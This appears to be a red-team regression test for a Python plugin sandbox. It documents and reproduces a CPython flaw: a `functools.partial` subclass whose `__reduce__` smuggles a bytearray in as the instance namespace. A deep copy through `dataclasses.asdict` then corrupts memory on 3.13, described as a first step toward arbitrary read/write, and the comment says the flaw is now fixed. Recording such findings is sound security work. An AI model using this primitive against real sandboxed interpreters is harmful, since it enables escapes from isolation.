# mypy: ignore-errors
# Technique: a plugin object's `__reduce__` chooses the callable and the state copy
# reconstructs with; for a real `functools.partial` the state's fourth item becomes the
# instance `__dict__`, and the C `__setstate__` never checks that it is a dict. A deep copy
# (`dataclasses.asdict`) of a `functools.partial` subclass returning `(functools.partial,
# (f,), (f, (), None, bytearray(...)))` gave a partial whose namespace is a bytearray; on
# 3.13 setting an attribute on it read the bytes as the dict's internals (its keys pointer
# taken from plugin data: memory corruption in the worker, the first step of an arbitrary
# read/write), on 3.11-3.12 a `SystemError`. Found in the eleventh red-team pass of the
# in-interpreter layer; reached memory corruption on 3.13 before the fix (copy gives a
# partial a dict or None as its namespace, nothing else).
import dataclasses
import functools


def target(*args):
    return args


class Partial(functools.partial):
    def __reduce__(self):
        return (functools.partial, (target,), (target, (), None, bytearray(b"A" * 64)))


@dataclasses.dataclass
class Box:
    item: object


def attack(secret_path, canary_path):
    copied = dataclasses.asdict(Box(Partial(target)))["item"]
    try:
        copied.x = 1
    except SystemError as exc:
        return repr(exc)[:120]
    return "stored"
